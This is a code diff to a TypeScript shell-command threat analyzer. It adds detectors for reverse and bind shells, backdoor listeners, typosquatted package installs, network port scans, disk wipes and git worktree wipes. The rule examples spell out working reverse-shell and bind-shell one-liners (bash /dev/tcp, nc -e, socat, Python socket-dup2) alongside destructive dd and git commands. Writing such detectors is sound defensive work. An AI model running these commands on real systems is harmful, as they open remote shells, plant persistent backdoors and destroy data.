@@ -4,6 +4,10 @@ import {
   type Cmd, type Script, type ShellParse,
 } from '../parse/shell.js';
 import { CMD_PATH_PATTERNS, judgeDeletePath, pathInfo, sensitiveFile, type PathInfo } from '../parse/command-paths.js';
+import { canWireShell } from '../parse/program-capabilities.js';
+import { commandAfterProse } from '../parse/prose-lead.js';
+import { typosquatOf } from '../parse/package-names.js';
+import { wiredShell, WIRING_KEYWORDS, type WiredShell } from '../parse/shell-wiring.js';
 import type { Analyzer, BaseContext, Finding, Metadata, ThreatRule } from '../types.js';
 
 /** A file the command line writes, and (when the line shows it) what it writes there. */
@@ -117,13 +121,15 @@ function prepare(value: string, metadata: Metadata): CommandContext {
   const normalized = value.length > 2 * PARSE_CAP ? `${normalizeUnicode(value.slice(0, PARSE_CAP))}${value.slice(PARSE_CAP)}` : normalizeUnicode(value);
   const anyMeta = hasAnyKey(metadata);
   const cwdMeta = anyMeta ? metaOf(metadata, CWD_KEYS) ?? '' : '';
-  const parse = parseShell(normalized, { cwd: cwdMeta.length < 1024 ? cwdMeta : '' });
+  const afterLead = normalized.length < PARSE_CAP ? commandAfterProse(normalized) : '';
+  const parse = parseShell(afterLead !== '' ? afterLead : normalized, { cwd: cwdMeta.length < 1024 ? cwdMeta : '' });
   // indexed loops here and in viewLine: this runs on every check, often before the JIT has optimised it
   const cmds = parse.cmds;
   const scripts = parse.scripts;
   let text = cmds.length > 0 ? viewLine(cmds[0]!) : '';
   for (let i = 1; i < cmds.length; i++) text += `\n${viewLine(cmds[i]!)}`;
   for (let i = 0; i < scripts.length; i++) text += i === 0 && cmds.length === 0 ? scripts[i]!.code : `\n${scripts[i]!.code}`;
+  text += sourceWrittenThenRun(cmds);
   if (normalized.length > PARSE_CAP) text += `\n${normalized.slice(PARSE_CAP)}`;
   let env: 'prod' | 'nonprod' | '' = '';
   let branch = '';
@@ -134,6 +140,25 @@ function prepare(value: string, metadata: Metadata): CommandContext {
     if (branch !== '') branch = branch.replace(REFS_HEADS, '');
   }
   return new CommandCtx(value, text, text.toLowerCase(), metadata, parse, normalized, env, branch);
+}
+
+const SOURCE_FILE = /\.(?:go|c|cc|cpp|cxx|rs|java|cs|py|pl|rb|js|mjs|ts|php|lua|sh|bash|ps1|nim|cr|zig|swift|kt|scala|groovy|tcl|awk)$/i;
+/**
+ * Code printed into a source file (echo '…' > x.go, cat > x.c <<EOF) and then compiled or run on the same line is
+ * code, not data: its text joins the view the rules read. Empty for every other line.
+ */
+function sourceWrittenThenRun(cmds: readonly Cmd[]): string {
+  let out = '';
+  for (let i = 0; i < cmds.length; i++) {
+    const c = cmds[i]!;
+    if (c.redirects.length === 0 || !c.redirects.some((r) => (r.op === '>' || r.op === '>>') && SOURCE_FILE.test(r.target))) continue;
+    let runs = false;
+    for (let j = i + 1; j < cmds.length && !runs; j++) runs = canWireShell(cmds[j]!.name) || isInterpreter(cmds[j]!.name);
+    if (!runs) continue;
+    if (PRINTERS.has(c.name)) out += `\n${c.args.join(' ')}`;
+    if (c.heredoc !== '') out += `\n${c.heredoc}`;
+  }
+  return out;
 }
 
 function viewLine(c: Cmd): string {
@@ -346,18 +371,23 @@ function massDeleteFinding(c: Cmd): Finding | null {
     }
     return null;
   }
-  if ((c.name === 'chmod' || c.name === 'chown') && false) return null;
   return null;
 }
 
 const MKFS = /^mkfs(?:\.[a-z0-9]{1,12})?$|^mke2fs$|^mkswap$|^newfs/;
+const DISK_IMAGE = /^if=[^\s]{1,200}\.(?:iso|img|img\.xz|img\.gz|raw|dmg|wic)$/i;
+const BOOT_DISK = /^\/dev\/(?:sda|hda|vda|xvda|nvme0n1|mmcblk0|disk0|rdisk0)(?:p?[0-9]{1,2})?$/;
 function diskWipeFinding(ctx: CommandContext): Finding | null {
   return overCmds(ctx, (c) => {
     const a = c.args;
     const dev = (x: string) => BLOCK_DEV.test(x);
     if (c.name === 'dd') {
       const of = a.find((x) => x.startsWith('of='));
-      if (of && dev(of.slice(3))) return { detail: `dd writing to block device ${of.slice(3)}`, score: 10 };
+      if (!of || !dev(of.slice(3))) return null;
+      // an installer image flashed onto a second disk (a USB stick) is routine; the boot disk or zeros is a wipe
+      const input = a.find((x) => x.startsWith('if=')) ?? '';
+      if (DISK_IMAGE.test(input) && !BOOT_DISK.test(of.slice(3))) return { detail: `dd flashes image ${input.slice(3)} onto secondary disk ${of.slice(3)}`, score: 2 };
+      return { detail: `dd writing to block device ${of.slice(3)}`, score: 10 };
       return null;
     }
     if (MKFS.test(c.name) || c.name === 'wipefs' || c.name === 'blkdiscard' || c.name === 'sgdisk' || c.name === 'shred' || c.name === 'badblocks' || c.name === 'cryptsetup') {
@@ -519,6 +549,9 @@ function downloadThenRunFinding(ctx: CommandContext): Finding | null {
 }
 
 function reverseShellFinding(ctx: CommandContext): Finding | null {
+  const wired = wiringOf(ctx);
+  // a listener kept running is a backdoor: C49 names it
+  if (wired !== null && wired.kind === 'listen' && wired.keptAlive) return null;
   let devTcp = '';
   let shellFd = false;
   for (const c of ctx.cmds) {
@@ -548,16 +581,27 @@ function reverseShellFinding(ctx: CommandContext): Finding | null {
     const tool = p.find((c) => NET_TOOLS.has(c.name) && (c.name !== 'openssl' || c.args[0] === 's_client'));
     if (sh && tool) return { detail: `${tool.name} piped with ${sh.name}: shell over a network connection`, score: 10 };
   }
-  for (const s of ctx.parse.scripts) {
-    const code = s.code.toLowerCase();
-    const sock = /socket|tcpclient|fsockopen|\/inet\/tcp\/|net\.connect|createconnection|io::socket|tcpsocket|new-object\s{1,3}net\.sockets/.test(code);
-    const run = /dup2|pty\.spawn|subprocess|\/bin\/(?:ba|z|da)?sh|cmd\.exe|\bexec\s{0,2}[("]|popen|spawn\(|system\(|proc_open|shell_exec|passthru|\biex\b|invoke-expression|sendback|child_process|\|&/.test(code);
-    if (sock && run) return { detail: `${s.lang} one-liner connects a socket to a shell`, score: 10 };
+  if (wired !== null) {
+    return { detail: `${wired.program} ${wired.kind === 'listen' ? 'serves' : 'connects'} a socket (${wired.socketWord.replace(/[(:]$/, '')}) wired to a shell or command runner (${wired.execWord.trim()})`, score: 10 };
   }
   const ztcp = ctx.lower.includes('ztcp') ? ctx.cmds.find((c) => c.name === 'ztcp' && positional(c).length >= 2) : undefined;
   if (ztcp && ctx.cmds.some((c) => isShell(c.name) && c.redirects.some((r) => r.target.includes('$REPLY')))) return { detail: `zsh ztcp connection to ${positional(ztcp)[0]} wired to a shell`, score: 10 };
   if (/tcpclient\(/.test(ctx.norm) && /getstream\(\)/.test(ctx.norm) && /iex|invoke-expression|out-string/.test(ctx.norm)) return { detail: 'PowerShell TCPClient reverse shell', score: 10 };
   return null;
+}
+
+/** Socket and shell combined by a program able to carry them (program-capabilities.ts, shell-wiring.ts). */
+function wiringOf(ctx: CommandContext): WiredShell | null {
+  const names: string[] = [];
+  for (const c of ctx.cmds) names.push(c.name);
+  for (const s of ctx.parse.scripts) names.push(s.host);
+  return wiredShell(ctx.norm, names);
+}
+
+function backdoorListenerFinding(ctx: CommandContext): Finding | null {
+  const wired = wiringOf(ctx);
+  if (wired === null || wired.kind !== 'listen' || !wired.keptAlive) return null;
+  return { detail: `${wired.program} keeps a shell listening on a port (${wired.socketWord.replace(/[(:]$/, '')}, restarted or looped)`, score: 10 };
 }
 
 function encodedFinding(ctx: CommandContext): Finding | null {
@@ -713,6 +757,7 @@ function criticalOverwriteFinding(ctx: CommandContext): Finding | null {
 }
 
 const USER_MANAGED = /^\/(?:opt|srv|mnt|media|tmp|var\/www|var\/tmp|usr\/local|home\/[^/]+\/.+|users\/[^/]+\/.+)(?:\/|$)/;
+const SERVED_DIR = /^\/(?:var\/www|srv\/www|usr\/share\/nginx|var\/lib\/nginx)(?:\/|$)|\/(?:public_html|htdocs|wwwroot|webroot|uploads?|wp-content|media\/uploads|cgi-bin)(?:\/|$)/i;
 function permsFinding(ctx: CommandContext): Finding | null {
   return overCmds(ctx, (c) => {
     if (c.name !== 'chmod' && c.name !== 'chown' && c.name !== 'chgrp' && c.name !== 'setfacl' && c.name !== 'icacls' && c.name !== 'takeown') return null;
@@ -731,6 +776,7 @@ function permsFinding(ctx: CommandContext): Finding | null {
       else if (recursive && j.score >= 8 && !USER_MANAGED.test(info.path)) { score = 6; what = `recursive ${c.name} on ${j.label}`; }
       else if ((worldWritable || zero) && (/^\/etc\/(?:shadow|passwd|sudoers|gshadow|group)$/.test(info.path) || info.path.endsWith('docker.sock'))) { score = 8; what = `${mode} on ${info.path}`; }
       else if (worldWritable && j.score >= 9 && c.name === 'chmod') { score = 7; what = `world-writable ${info.path}`; }
+      else if (worldWritable && c.name === 'chmod' && SERVED_DIR.test(info.path)) { score = 7; what = `world-writable web or upload directory ${info.path} (anyone can plant a script the server runs)`; }
       if (score > 0 && (bestF === null || score > (bestF.score ?? 0))) bestF = { detail: `${what}${mode ? ` (mode ${mode})` : ''}`, score };
     }
     return bestF;
@@ -863,7 +909,7 @@ function readsSensitive(c: Cmd): { label: string; read: number; up: number; path
   return bestS;
 }
 
-const isSink = (c: Cmd): boolean => SINKS.has(c.name) && !(c.name === 'ssh' && false);
+const isSink = (c: Cmd): boolean => SINKS.has(c.name);
 const ENV_DUMP = (c: Cmd): boolean => (c.name === 'env' && positional(c).length === 0) || c.name === 'printenv' && positional(c).length === 0 || (c.name === 'set' && c.args.length === 0) || (c.name === 'export' && has(c, '-p')) || (c.name === 'declare' && has(c, '-x', '-p')) || c.name === 'get-childitem' && /env:/i.test(c.args.join(' ')) || c.args.some((a) => /^\/proc\/(?:self|[0-9]{1,7}|\*)\/environ$/.test(a));
 
 function uploadFinding(ctx: CommandContext): Finding | null {
@@ -1583,6 +1629,84 @@ function rawPackageFinding(ctx: CommandContext): Finding | null {
   });
 }
 
+const SCANNERS: ReadonlySet<string> = new Set(['nmap', 'masscan', 'zmap', 'rustscan', 'naabu', 'unicornscan']);
+/** A network range rather than one host: CIDR /8–/28, or a last-octet range (10.0.0.1-254). */
+const SCAN_RANGE = /^[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}\/(?:[89]|[12][0-9])$|^[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}-[0-9]{1,3}$|^[0-9]{1,3}\.[0-9]{1,3}\.[0-9*]{1,3}\.\*$/;
+const ALL_PORTS = /^-p-$|^-p ?(?:0|1)-65535$|^--?p(?:orts?)?[= ]?(?:0|1)-65535$|^--top-ports[= ]?(?:[1-9][0-9]{3,})$/;
+
+function portScanFinding(ctx: CommandContext): Finding | null {
+  return overCmds(ctx, (c) => {
+    if (!SCANNERS.has(c.name)) return null;
+    const range = c.args.find((a) => SCAN_RANGE.test(a) || a === '-il' || a === '-iL');
+    if (range === undefined) return null;
+    let all = false;
+    for (let i = 0; i < c.args.length && !all; i++) {
+      const a = c.args[i]!;
+      all = ALL_PORTS.test(a) || ((a === '-p' || a === '--ports' || a === '--top-ports') && ALL_PORTS.test(`${a} ${c.args[i + 1] ?? ''}`)) || c.name === 'masscan' || c.name === 'zmap';
+    }
+    const intrusive = c.args.some((a) => a === '-A' || a === '-sV' || a === '-O' || a === '--script' || a.startsWith('--script=') || a === '-sS');
+    if (!all && !intrusive) return null;
+    return { detail: `${c.name} ${all ? 'scans every port' : 'fingerprints services'} across ${range === '-iL' || range === '-il' ? 'a host list' : range}`, score: all && intrusive ? 6 : 5 };
+  });
+}
+
+/** git reset --hard followed by git clean -x: every uncommitted and ignored file is gone, with no undo. */
+function worktreeWipeFinding(ctx: CommandContext): Finding | null {
+  let reset = '';
+  let clean = '';
+  for (const c of ctx.cmds) {
+    if (c.name !== 'git') continue;
+    const sub = gitSub(c);
+    if (sub === 'reset' && c.args.includes('--hard')) reset = c.args.slice(c.args.indexOf('reset')).join(' ');
+    if (sub === 'clean' && c.args.some((a) => a.startsWith('-') && !a.startsWith('--') && a.includes('f') && (a.includes('x') || a.includes('d')))) clean = c.args.slice(c.args.indexOf('clean')).join(' ');
+  }
+  if (reset === '' || clean === '') return null;
+  return { detail: `git ${reset} then git ${clean}: uncommitted work${clean.includes('x') ? ' and ignored files (.env, local data)' : ''} erased for good`, score: clean.includes('x') ? 7 : 5 };
+}
+
+const NPM_CLIENTS: ReadonlySet<string> = new Set(['npm', 'pnpm', 'yarn', 'bun', 'npx', 'cnpm']);
+const PIP_CLIENTS: ReadonlySet<string> = new Set(['pip', 'pip3', 'uv', 'poetry', 'pipenv', 'pipx', 'easy_install', 'conda', 'mamba']);
+/** Install options whose value is the next word (a file or index, not a package). */
+const VALUE_OPTS: ReadonlySet<string> = new Set(['-r', '--requirement', '-c', '--constraint', '-i', '--index-url', '--extra-index-url', '-f', '--find-links', '--registry', '--prefix', '--target', '-t', '--cache', '--source', '-e', '--editable', '-p', '--python']);
+const VERSION_CUT = /[=<>!~@[;]/;
+
+/** The package names an install line asks for (npm, pip and their cousins), without versions and extras. */
+function installedNames(c: Cmd): { eco: 'npm' | 'pypi'; names: string[] } | null {
+  const name = c.name.startsWith('pip') && /^pip[0-9.]{0,5}$/.test(c.name) ? 'pip' : c.name;
+  const eco = NPM_CLIENTS.has(name) ? 'npm' : PIP_CLIENTS.has(name) ? 'pypi' : null;
+  if (eco === null) return null;
+  const a = c.args;
+  let i = 0;
+  if (name === 'uv' && a[0] === 'pip') i = 1;
+  while (i < a.length && a[i]!.startsWith('-')) i++;
+  const verb = a[i] ?? '';
+  if (!(verb === 'install' || verb === 'add' || verb === 'i' || (name === 'npx' && verb !== ''))) return null;
+  const names: string[] = [];
+  for (let j = name === 'npx' ? i : i + 1; j < a.length; j++) {
+    const x = a[j]!;
+    if (VALUE_OPTS.has(x)) { j++; continue; }
+    if (x.startsWith('-') || x.includes('/') || x.includes(':') || x.includes('\\')) continue;
+    // npm names carry a version after a non-leading @; pip after ==, >=, [extras]
+    const at = eco === 'npm' ? x.indexOf('@', 1) : -1;
+    const cut = at > 0 ? at : eco === 'pypi' ? x.search(VERSION_CUT) : -1;
+    names.push(cut > 0 ? x.slice(0, cut) : x);
+    if (names.length >= 50) break;
+  }
+  return { eco, names };
+}
+
+function typosquatFinding(ctx: CommandContext): Finding | null {
+  return overCmds(ctx, (c) => {
+    const inst = installedNames(c);
+    if (inst === null) return null;
+    for (const n of inst.names) {
+      const real = typosquatOf(inst.eco, n);
+      if (real !== '') return { detail: `${c.name} installs "${n}", one typo away from the popular package "${real}"`, score: 7 };
+    }
+    return null;
+  });
+}
+
 function preloadFinding(ctx: CommandContext): Finding | null {
   const w = ctx.writes.find((x) => x.info.path === '/etc/ld.so.preload');
   if (w) return { detail: '/etc/ld.so.preload written: library injected into every process', score: 9 };
@@ -2026,11 +2150,48 @@ const rules: Rule[] = [
   },
   {
     id: 'C06', name: 'Reverse or bind shell', primitive: 'ESCALATION', score: 10,
-    keywords: ['/dev/tcp', '/dev/udp', 'nc', 'ncat', 'netcat', 'socat', 'telnet', 'socket', 'tcpclient', 'fsockopen', '/inet/tcp', 'xterm', 'openssl', 'cryptcat', 'ztcp'],
+    keywords: ['nc', 'ncat', 'netcat', 'socat', 'telnet', 'xterm', 'openssl', 'cryptcat', 'ztcp', ...WIRING_KEYWORDS],
     detect: reverseShellFinding,
     examples: {
       flag: ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'nc -e /bin/sh 10.0.0.1 4444', 'ncat 10.0.0.1 4444 --exec /bin/bash', 'socat tcp-connect:10.0.0.1:4444 exec:/bin/sh,pty,stderr', 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f', `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",4242));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'`],
       pass: ['nc -zv db.internal 5432', 'timeout 1 bash -c "</dev/tcp/localhost/22" && echo open', 'python3 -c "import socket; print(socket.gethostname())"', 'echo "bash -i >& /dev/tcp/1.2.3.4/80" >> writeup.md'],
+    },
+  },
+  {
+    id: 'C50', name: 'Typo-squatted package installed (a name one typo from a popular package)', primitive: 'PERSISTENCE', score: 7,
+    keywords: ['npm', 'pnpm', 'yarn', 'bun', 'npx', 'cnpm', 'pip', 'uv', 'poetry', 'pipenv', 'pipx', 'easy_install', 'conda', 'mamba'],
+    detect: typosquatFinding,
+    examples: {
+      flag: ['npm install --save crossenv', 'pip install colourama', 'pip3 install python3-dateutil==2.8', 'yarn add lodahs', 'npm i reqeust', 'pip install reqeusts'],
+      pass: ['npm install --save cross-env', 'pip install colorama requests', 'pip install python_dateutil', 'npm i preact', 'yarn add react-dom@18', 'pip install -r requirements.txt', 'pip install scapy'],
+    },
+  },
+  {
+    id: 'C51', name: 'Port scan of a whole network range', primitive: 'EXFILTRATION', score: 5,
+    keywords: ['nmap', 'masscan', 'zmap', 'rustscan', 'naabu', 'unicornscan'],
+    detect: portScanFinding,
+    examples: {
+      flag: ['nmap -p- 10.0.0.0/16', 'nmap -sS -p 1-65535 192.168.0.0/24', 'masscan 10.0.0.0/8 -p0-65535 --rate 100000', 'nmap -A -T4 172.16.4.1-254'],
+      pass: ['nmap -p 443 api.example.com', 'nmap -sn 192.168.1.0/24', 'nmap localhost', 'nmap -p 22,80 10.0.0.5'],
+    },
+  },
+  {
+    id: 'C52', name: 'Local work wiped beyond recovery (git reset --hard then git clean)', primitive: 'DESTRUCTION', score: 7,
+    keywords: ['git'],
+    requires: ['clean'],
+    detect: worktreeWipeFinding,
+    examples: {
+      flag: ['git reset --hard HEAD~20 && git clean -fdx', 'git reset --hard origin/main; git clean -ffdx', 'git clean -fd && git reset --hard'],
+      pass: ['git reset --hard origin/main', 'git clean -n', 'git clean -fd', 'git stash && git reset --hard'],
+    },
+  },
+  {
+    id: 'C49', name: 'Backdoor listener: a shell served on a port and kept running', primitive: 'PERSISTENCE', score: 10,
+    keywords: ['nc', 'ncat', 'netcat', 'socat', ...WIRING_KEYWORDS],
+    detect: backdoorListenerFinding,
+    examples: {
+      flag: ['while true; do nc -lvp 4444 -e /bin/bash; done', 'nohup socat TCP-LISTEN:9001,reuseaddr,fork EXEC:/bin/sh &', `nohup python3 -c 'import socket,os;s=socket.socket();s.bind(("0.0.0.0",31337));s.listen(1);c,a=s.accept();os.dup2(c.fileno(),0);os.dup2(c.fileno(),1);os.system("/bin/sh")' &`],
+      pass: ['nohup python3 -m http.server 8000 &', 'while true; do nc -lvp 9000 > upload.bin; done', 'socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80'],
     },
   },
   {
@@ -2428,7 +2589,7 @@ const commandAnalyzer: Analyzer<CommandContext> = {
     ARG_PROD, ARG_NONPROD, ADMIN_POLICY, GCP_ADMIN_ROLE, AZ_ADMIN_ROLE, PUBLIC_CIDR, FREEMAIL, METADATA_CRED, SENSITIVE_BUCKET, CRED_STDIN, KERNEL_HARDENING, CRON_LINE, CRON_SHADY, ...REG_WEAKEN.flatMap((r) => [r[0], r[1]]),
     REMOTE_INSTALL_ARG, INSTALL_PREFIX, CERTUTIL_FETCH, HTA_FILE, URL_DLL, INF_DLL, INF_SECTION, PROXY_DLL, MSI_INSTALL, MSI_QUIET, WMIC_NODE, WMIC_LOCAL_NODE, WMIC_FORMAT, REMOTE_XSL,
     CMSTP_SILENT, UNINSTALL_FLAG, ASSEMBLY_FILE, CERTUTIL_DECODE, WIN_DRIVE, HIVE_SAVE, NTDS_COPY, HIST_OFF, CIPHER_WIPE, TAR_BUNDLE, TAR_SHORT_FLAGS,
-    ENV_SECRET_TERMS, LOCKED_SYSTEM_PATH, CHATTR_ADD, SYSTEM_LOG, SUID_PERM,
+    SOURCE_FILE, VERSION_CUT, DISK_IMAGE, BOOT_DISK, SERVED_DIR, SCAN_RANGE, ALL_PORTS, ENV_SECRET_TERMS, LOCKED_SYSTEM_PATH, CHATTR_ADD, SYSTEM_LOG, SUID_PERM,
   ],
 };
 export default commandAnalyzer;
